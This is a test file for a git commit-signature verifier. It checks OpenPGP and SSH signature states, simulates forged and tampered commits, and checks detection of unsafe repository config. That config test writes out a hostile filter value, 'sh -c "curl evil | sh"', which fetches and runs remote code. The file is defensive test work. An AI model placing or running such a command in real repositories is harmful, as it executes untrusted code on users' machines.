// Commit signature verification on throwaway repositories: keys made in a temporary GNUPGHOME and with
// ssh-keygen, commits signed by git itself (so the payload TwinGuard rebuilds is the one gpg / ssh-keygen
// signed), and each state for OpenPGP and SSH: verified, unknown-key, bad-signature, expired-key,
// revoked-key, unsigned, plus "signed, cannot verify here" for X.509 and unknown formats.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { readRepoState } from '../../server/src/git/readRepo';
import { buildTrustStore, parseAllowedSigners, parseCommit, parseSshTime, verifyCommit, VerdictCache } from '../../server/src/engine/signing/index';
import { renderReport, summarize, type RepoState } from '../../server/src/engine/git/repoState';

const ROOT = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'twinguard-signing-')));
const HOME = path.join(ROOT, 'home');
const GNUPGHOME = path.join(ROOT, 'gnupg');
const GLOBAL_CONFIG = path.join(ROOT, 'global.gitconfig');
for (const key of Object.keys(process.env)) if (key.toUpperCase().startsWith('GIT_')) delete process.env[key];
Object.assign(process.env, { HOME, GIT_CONFIG_GLOBAL: GLOBAL_CONFIG, GIT_CONFIG_NOSYSTEM: '1', GIT_CEILING_DIRECTORIES: ROOT, GNUPGHOME });
const env: NodeJS.ProcessEnv = { ...process.env, GIT_TERMINAL_PROMPT: '0', LC_ALL: 'C' };

let clock = 1_750_000_000;
function run(cmd: string, args: string[], opts: { cwd?: string; input?: string | Buffer; env?: NodeJS.ProcessEnv } = {}): string {
  return execFileSync(cmd, args, { cwd: opts.cwd ?? ROOT, env: opts.env ?? env, input: opts.input ?? '', encoding: 'utf8', stdio: ['pipe', 'pipe', 'pipe'] }).trim();
}
function git(cwd: string, args: string[], input?: string): string {
  clock += 60;
  return run('git', ['-c', 'user.name=Sig Tester', '-c', 'user.email=sig@example.invalid', '-c', 'gc.auto=0', ...args], {
    cwd,
    input,
    env: { ...env, GIT_AUTHOR_DATE: `${clock} +0000`, GIT_COMMITTER_DATE: `${clock} +0000` },
  });
}
function gpg(args: string[], input?: string): string {
  return run('gpg', ['--batch', '--no-tty', '--pinentry-mode', 'loopback', '--passphrase', '', ...args], { input });
}
function fingerprint(uid: string): string {
  return gpg(['--with-colons', '--list-keys', uid]).split('\n').find((l) => l.startsWith('fpr:'))!.split(':')[9];
}

/** Keys: trusted A (ed25519) and R (rsa, revoked after signing), expired E, untrusted U; ssh keys. */
const keys = { a: '', r: '', e: '', u: '' };
const ssh: Record<string, string> = {};
/** A gpg that runs at a fixed time in 2020, so E can sign while it is valid and be expired now. */
const PAST_GPG = path.join(ROOT, 'gpg-2020');

let repoCount = 0;
function initRepo(name: string): string {
  const dir = path.join(ROOT, `${++repoCount}-${name}`);
  fs.mkdirSync(dir);
  git(dir, ['init', '-q', '-b', 'main']);
  return dir;
}
function commitGpg(dir: string, message: string, key: string, program = 'gpg'): string {
  git(dir, ['-c', `user.signingkey=${key}`, '-c', `gpg.program=${program}`, 'commit', '-q', '--allow-empty', '-S', '-m', message]);
  return git(dir, ['rev-parse', 'HEAD']);
}
function commitSsh(dir: string, message: string, pub: string): string {
  git(dir, ['-c', 'gpg.format=ssh', '-c', `user.signingkey=${pub}`, '-c', 'gpg.ssh.program=ssh-keygen', 'commit', '-q', '--allow-empty', '-S', '-m', message]);
  return git(dir, ['rev-parse', 'HEAD']);
}
function commitPlain(dir: string, message: string): string {
  git(dir, ['commit', '-q', '--allow-empty', '--no-gpg-sign', '-m', message]);
  return git(dir, ['rev-parse', 'HEAD']);
}
/** Writes a commit object by hand (after a tamper or with a foreign signature) and moves HEAD to it. */
function writeCommit(dir: string, raw: string | Buffer): string {
  const sha = run('git', ['hash-object', '-t', 'commit', '-w', '--stdin'], { cwd: dir, input: raw });
  git(dir, ['update-ref', 'HEAD', sha]);
  return sha;
}
function rawCommit(dir: string, sha: string): Buffer {
  return execFileSync('git', ['cat-file', 'commit', sha], { cwd: dir, env });
}
/** `.twinguard/keys/<name>.asc` with the public keys of `uids`, and `.twinguard/allowed-signers`. */
function trustFiles(dir: string, opts: { gpg?: string[]; allowed?: string }): void {
  fs.mkdirSync(path.join(dir, '.twinguard', 'keys'), { recursive: true });
  for (const uid of opts.gpg ?? []) fs.writeFileSync(path.join(dir, '.twinguard', 'keys', `${uid.split('@')[0]}.asc`), gpg(['--armor', '--export', uid]));
  if (opts.allowed !== undefined) fs.writeFileSync(path.join(dir, '.twinguard', 'allowed-signers'), opts.allowed);
}
function allowedLine(principal: string, pub: string, options = ''): string {
  return `${principal} ${options ? `${options} ` : ''}${fs.readFileSync(pub, 'utf8').trim()}\n`;
}
function states(state: RepoState): string[] {
  assert.equal(state.problem, undefined, state.detail);
  return state.commits.map((c) => `${c.subject}: ${c.state}`);
}

before(() => {
  fs.mkdirSync(HOME);
  fs.mkdirSync(GNUPGHOME, { mode: 0o700 });
  fs.writeFileSync(GLOBAL_CONFIG, '');
  gpg(['--quick-gen-key', 'Alice <alice@example.invalid>', 'ed25519', 'sign', 'never']);
  gpg(['--quick-gen-key', 'Rita <rita@example.invalid>', 'rsa3072', 'sign', 'never']);
  gpg(['--quick-gen-key', 'Mallory <mallory@example.invalid>', 'ed25519', 'sign', 'never']);
  // Made and used in 2020 with a one-day lifetime: valid when it signed, expired today.
  gpg(['--faked-system-time', '20200101T000000!', '--quick-gen-key', 'Eve Old <eve@example.invalid>', 'ed25519', 'sign', '1d']);
  fs.writeFileSync(PAST_GPG, `#!/bin/sh\nexec gpg --faked-system-time 20200101T120000! "$@"\n`, { mode: 0o755 });
  keys.a = fingerprint('alice@example.invalid');
  keys.r = fingerprint('rita@example.invalid');
  keys.u = fingerprint('mallory@example.invalid');
  keys.e = fingerprint('eve@example.invalid');
  for (const t of ['ed25519', 'ecdsa', 'rsa', 'stranger']) {
    const file = path.join(ROOT, `id_${t}`);
    run('ssh-keygen', ['-q', '-t', t === 'stranger' ? 'ed25519' : t, '-N', '', '-C', `${t}@example.invalid`, '-f', file]);
    ssh[t] = `${file}.pub`;
  }
});

after(() => {
  try {
    execFileSync('gpgconf', ['--kill', 'gpg-agent'], { env, stdio: 'ignore' });
  } catch {
    // No agent started.
  }
  fs.rmSync(ROOT, { recursive: true, force: true });
});

describe('OpenPGP signatures', () => {
  test('verified, unknown-key, bad-signature (tampered), expired-key, revoked-key and unsigned', async () => {
    const dir = initRepo('openpgp');
    commitPlain(dir, 'plain');
    commitGpg(dir, 'by alice', keys.a);
    commitGpg(dir, 'by mallory', keys.u);
    commitGpg(dir, 'by eve in 2020', keys.e, PAST_GPG);
    commitGpg(dir, 'by rita', keys.r);
    const good = commitGpg(dir, 'to be tampered', keys.a);
    // The commit is changed after signing (its message), the signature kept: what a forger would push.
    writeCommit(dir, rawCommit(dir, good).toString('utf8').replace('to be tampered', 'tampered: disable the audit log'));
    // Rita's key is revoked after she signed; the repository's key file carries the revocation.
    const revocation = fs.readFileSync(path.join(GNUPGHOME, 'openpgp-revocs.d', `${keys.r}.rev`), 'utf8').replace(/^:-----BEGIN/m, '-----BEGIN');
    gpg(['--import'], revocation);
    trustFiles(dir, { gpg: ['alice@example.invalid', 'rita@example.invalid', 'eve@example.invalid'] });

    const state = await readRepoState(dir);
    assert.deepEqual(states(state), [
      'tampered: disable the audit log: bad-signature',
      'by rita: revoked-key',
      'by eve in 2020: expired-key',
      'by mallory: unknown-key',
      'by alice: verified',
      'plain: unsigned',
    ]);
    const alice = state.commits[4];
    assert.equal(alice.keyId, keys.a);
    assert.equal(alice.signer, 'Alice <alice@example.invalid>');
    assert.equal(alice.format, 'openpgp');
    assert.equal(state.commits[3].keyId, keys.u, 'an unknown key is still named, so the user can decide to trust it');
    assert.deepEqual(state.trust?.sources, ['.twinguard/keys/alice.asc (uncommitted)', '.twinguard/keys/eve.asc (uncommitted)', '.twinguard/keys/rita.asc (uncommitted)']);
    assert.equal(state.trust?.openpgpKeys, 3);
    // Cross-check: git's own verification (which runs gpg) agrees about the untouched signature.
    assert.doesNotThrow(() => git(dir, ['-c', 'gpg.program=gpg', 'verify-commit', state.commits[4].sha]));
    assert.throws(() => git(dir, ['-c', 'gpg.program=gpg', 'verify-commit', state.commits[0].sha]));
  });

  test('a key trusted through a settings file or the gpg keyring (opt-in) verifies; without them it is unknown', async () => {
    const dir = initRepo('openpgp-sources');
    commitGpg(dir, 'by mallory', keys.u);
    assert.deepEqual(states(await readRepoState(dir)), ['by mallory: unknown-key']);
    const file = path.join(ROOT, 'mallory.asc');
    fs.writeFileSync(file, gpg(['--armor', '--export', 'mallory@example.invalid']));
    assert.deepEqual(states(await readRepoState(dir, { trust: { files: [file] } })), ['by mallory: verified']);
    const keyring = await readRepoState(dir, { trust: { gpgKeyring: true } });
    assert.deepEqual(states(keyring), ['by mallory: verified']);
    assert.deepEqual(keyring.trust?.sources, ['gpg keyring']);
    // signing.trustedKeys restricts the keyring to the listed keys.
    assert.deepEqual(states(await readRepoState(dir, { trust: { gpgKeyring: true, trustedKeys: [keys.a] } })), ['by mallory: unknown-key']);
    const missing = await readRepoState(dir, { trust: { files: [path.join(ROOT, 'no-such.asc')] } });
    assert.match(missing.trust?.problems.join('\n') ?? '', /no-such\.asc: cannot be read/);
  });

  test('a key file that is not a key is a trust problem, never trusted', async () => {
    const store = await buildTrustStore([{ source: 'junk.asc', text: 'not a key' }, { source: 'bad.asc', text: '-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nAAAA\n-----END PGP PUBLIC KEY BLOCK-----\n' }]);
    assert.equal(store.openpgp.length, 0);
    assert.equal(store.problems.length, 2);
  });
});

describe('SSH signatures', () => {
  test('ed25519, ecdsa and rsa verify against allowed signers; unknown, expired window, wrong namespace and tampered do not', async () => {
    const dir = initRepo('ssh');
    commitSsh(dir, 'ed25519', ssh.ed25519);
    commitSsh(dir, 'ecdsa', ssh.ecdsa);
    commitSsh(dir, 'rsa', ssh.rsa);
    commitSsh(dir, 'stranger', ssh.stranger);
    const signed = commitSsh(dir, 'to be tampered', ssh.ed25519);
    writeCommit(dir, rawCommit(dir, signed).toString('utf8').replace('to be tampered', 'tampered'));
    // A signature ssh-keygen made for another purpose ("file" namespace), pasted into a commit.
    const tampered = git(dir, ['rev-parse', 'HEAD']);
    const tree = git(dir, ['rev-parse', `${tampered}^{tree}`]);
    const unsignedText = `tree ${tree}\nparent ${tampered}\nauthor Sig Tester <sig@example.invalid> ${clock} +0000\ncommitter Sig Tester <sig@example.invalid> ${clock} +0000\n\nfile namespace\n`;
    const payloadFile = path.join(ROOT, 'payload');
    fs.writeFileSync(payloadFile, unsignedText);
    run('ssh-keygen', ['-q', '-Y', 'sign', '-n', 'file', '-f', ssh.ed25519.replace(/\.pub$/, ''), payloadFile]);
    const fileSig = fs.readFileSync(`${payloadFile}.sig`, 'utf8').trim();
    const [head, ...rest] = unsignedText.split('\n\n');
    writeCommit(dir, `${head}\ngpgsig ${fileSig.split('\n').join('\n ')}\n\n${rest.join('\n\n')}`);
    trustFiles(dir, {
      allowed:
        '# team signers\n' +
        allowedLine('ed25519@example.invalid', ssh.ed25519) +
        allowedLine('ecdsa@example.invalid', ssh.ecdsa, 'namespaces="git,file"') +
        allowedLine('rsa@example.invalid,rsa-alias@example.invalid', ssh.rsa),
    });

    const state = await readRepoState(dir);
    assert.deepEqual(states(state), [
      'file namespace: bad-signature',
      'tampered: bad-signature',
      'stranger: unknown-key',
      'rsa: verified',
      'ecdsa: verified',
      'ed25519: verified',
    ]);
    assert.match(state.commits[0].detail ?? '', /namespace is "file"/);
    assert.equal(state.commits[3].signer, 'rsa@example.invalid,rsa-alias@example.invalid');
    assert.match(state.commits[5].keyId ?? '', /^SHA256:/);
    assert.equal(state.commits[5].keyId, run('ssh-keygen', ['-l', '-f', ssh.ed25519]).split(' ')[1], 'the key id is the fingerprint ssh-keygen -l prints');
    // Cross-check with ssh-keygen through git: it agrees on the verified one.
    fs.writeFileSync(path.join(ROOT, 'allowed'), fs.readFileSync(path.join(dir, '.twinguard', 'allowed-signers')));
    assert.doesNotThrow(() => git(dir, ['-c', 'gpg.ssh.program=ssh-keygen', '-c', `gpg.ssh.allowedSignersFile=${path.join(ROOT, 'allowed')}`, 'verify-commit', state.commits[5].sha]));
  });

  test('valid-after / valid-before are checked against the commit time; a signer limited to other namespaces is unknown for git', async () => {
    const dir = initRepo('ssh-window');
    commitSsh(dir, 'in window', ssh.ed25519);
    const sha = commitSsh(dir, 'by ecdsa', ssh.ecdsa);
    commitSsh(dir, 'by rsa, revoked later', ssh.rsa);
    const commitTime = parseCommit(rawCommit(dir, sha)).committerTime;
    const before = new Date((commitTime - 86400) * 1000).toISOString().slice(0, 10).replace(/-/g, '');
    trustFiles(dir, {
      allowed:
        allowedLine('ed25519@example.invalid', ssh.ed25519, `valid-after="20200101",valid-before="${before}Z"`) +
        allowedLine('ecdsa@example.invalid', ssh.ecdsa, 'namespaces="file"') +
        allowedLine('rsa@example.invalid', ssh.rsa),
    });
    assert.deepEqual(states(await readRepoState(dir)), ['by rsa, revoked later: verified', 'by ecdsa: unknown-key', 'in window: expired-key']);
    // The team revokes the rsa key: .twinguard/revoked-keys (text form of gpg.ssh.revocationFile).
    fs.writeFileSync(path.join(dir, '.twinguard', 'revoked-keys'), `# lost laptop\n${fs.readFileSync(ssh.rsa, 'utf8')}`);
    trustFiles(dir, { allowed: allowedLine('ed25519@example.invalid', ssh.ed25519, 'valid-after="20200101Z"') + allowedLine('rsa@example.invalid', ssh.rsa) });
    const state = await readRepoState(dir);
    assert.deepEqual(states(state), ['by rsa, revoked later: revoked-key', 'by ecdsa: unknown-key', 'in window: verified']);
    assert.equal(state.commits[0].signer, 'rsa@example.invalid');
  });

  test('allowed-signers parsing: options, quotes, comments and bad lines', () => {
    const pub = fs.readFileSync(ssh.ed25519, 'utf8').trim();
    const { signers, problems } = parseAllowedSigners(
      [
        '# comment',
        '',
        `a@x,b@x namespaces="git",valid-before="202601011200Z" ${pub}`,
        `c@x cert-authority ${pub}`,
        `d@x ${pub.split(' ')[0]}`,
        `e@x unknown-opt ${pub}`,
        `f@x ssh-ed25519 AAAAC3NzaC1yc2EAAAADAQAB`,
      ].join('\n'),
      'signers',
    );
    assert.equal(signers.length, 2);
    assert.deepEqual(signers[0].principals, ['a@x', 'b@x']);
    assert.deepEqual(signers[0].namespaces, ['git']);
    assert.equal(signers[0].validBefore, Date.UTC(2026, 0, 1, 12, 0) / 1000);
    assert.equal(signers[1].certAuthority, true);
    assert.deepEqual(problems.map((p) => p.split(':').slice(0, 2).join(':')), ['signers:5', 'signers:6', 'signers:7']);
    assert.equal(parseSshTime('2026010112'), undefined, 'hours without minutes are not a time');
    assert.equal(parseSshTime('20260101Z'), Date.UTC(2026, 0, 1) / 1000);
  });
});

describe('formats that cannot be verified here, and the payload', () => {
  test('X.509 and unknown armor are "signed, cannot verify here", never verified', async () => {
    const store = await buildTrustStore([]);
    const body = (sig: string) => Buffer.from(`tree ${'4b825dc642cb6eb9a060e54bf8d69288fbee4904'}\nauthor A <a@x> 1 +0000\ncommitter A <a@x> 1 +0000\ngpgsig ${sig}\n\nmsg\n`);
    const x509 = await verifyCommit(body('-----BEGIN SIGNED MESSAGE-----\n MIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0B\n -----END SIGNED MESSAGE-----'), store);
    assert.deepEqual([x509.state, x509.format], ['unverifiable', 'x509']);
    const other = await verifyCommit(body('-----BEGIN FUTURE SIGNATURE-----\n abc\n -----END FUTURE SIGNATURE-----'), store);
    assert.deepEqual([other.state, other.format], ['unverifiable', 'unknown']);
    const sha256Only = await verifyCommit(Buffer.from(body('x').toString().replace('gpgsig x', 'gpgsig-sha256 -----BEGIN PGP SIGNATURE-----\n abc\n -----END PGP SIGNATURE-----')), store, { signatureHeader: 'gpgsig' });
    assert.equal(sha256Only.state, 'unverifiable');
  });

  test('the payload is the object without the signature header and its continuation lines, as git signs it', () => {
    const raw = Buffer.from('tree t\nparent p\nauthor A <a@x> 1 +0000\ncommitter A <a@x> 1 +0000\ngpgsig -----BEGIN SSH SIGNATURE-----\n line1\n \n -----END SSH SIGNATURE-----\nmergetag object x\n type commit\n\nsubject\n\n body with\ngpgsig in it\n');
    const parsed = parseCommit(raw);
    assert.equal(parsed.payload.toString(), 'tree t\nparent p\nauthor A <a@x> 1 +0000\ncommitter A <a@x> 1 +0000\nmergetag object x\n type commit\n\nsubject\n\n body with\ngpgsig in it\n');
    assert.equal(parsed.signature, '-----BEGIN SSH SIGNATURE-----\nline1\n\n-----END SSH SIGNATURE-----\n');
    assert.equal(parsed.subject, 'subject');
  });

  test('the verdict cache keys by trust store and commit id', () => {
    const cache = new VerdictCache<string>(2);
    cache.set('c1', 't1', 'verified');
    assert.equal(cache.get('c1', 't1'), 'verified');
    assert.equal(cache.get('c1', 't2'), undefined, 'another trust store judges again');
    cache.set('c2', 't1', 'x');
    cache.set('c3', 't1', 'y');
    assert.equal(cache.size, 2, 'bounded');
  });
});

describe('report and summary', () => {
  test('the report names state, signer and key per commit; the summary counts them and required branches are marked', async () => {
    const dir = initRepo('report');
    commitPlain(dir, 'unsigned change');
    commitGpg(dir, 'alice change', keys.a);
    trustFiles(dir, { gpg: ['alice@example.invalid'] });
    const state = await readRepoState(dir);
    const text = renderReport(state);
    assert.match(text, /^Branch: main \(required branch: every commit must verify\)$/m);
    assert.match(text, /^Trusted keys: 1 OpenPGP, 0 SSH from \.twinguard\/keys\/alice\.asc \(uncommitted\)$/m);
    assert.match(text, new RegExp(`^verified +[0-9a-f]{12}  \\d{4}-\\d\\d-\\d\\d  Sig Tester  alice change  signer: Alice <alice@example.invalid>  key: ${keys.a}$`, 'm'));
    assert.match(text, /^UNSIGNED +[0-9a-f]{12} .* unsigned change$/m);
    assert.deepEqual(summarize({ ...state, config: { gpgSign: true, format: 'openpgp' } }), {
      state: 'unsigned',
      counts: { commits: 2, verified: 1, unsigned: 1, unverified: 0, bad: 0 },
    });
    assert.equal((await readRepoState(dir, { requiredBranches: ['release/*'] })).required, undefined);
  });
});

describe('unsafe repository config', () => {
  test('flags program keys that point into the repository or are command lines; ordinary settings are not flagged', async () => {
    const { unsafeKeys } = await import('../../server/src/git/readRepo');
    const local = (key: string, value: string) => ({ scope: 'local', key, value });
    const root = '/work/repo';
    assert.deepEqual(
      unsafeKeys(
        [
          local('core.fsmonitor', '/work/repo/.git/evil'),
          local('gpg.program', 'gpg2'),
          local('gpg.ssh.program', './tools/sign'),
          local('filter.lfs.clean', 'git-lfs clean -- %f'),
          local('filter.x.smudge', 'sh -c "curl evil | sh"'),
          local('diff.x.textconv', '/usr/bin/strings'),
          local('core.fsmonitor', 'true'),
          local('core.hookspath', '.husky'),
          { scope: 'global', key: 'core.pager', value: './global-is-the-user' },
        ],
        root,
      ),
      ['core.fsmonitor', 'filter.x.smudge', 'gpg.ssh.program'],
    );
  });
});
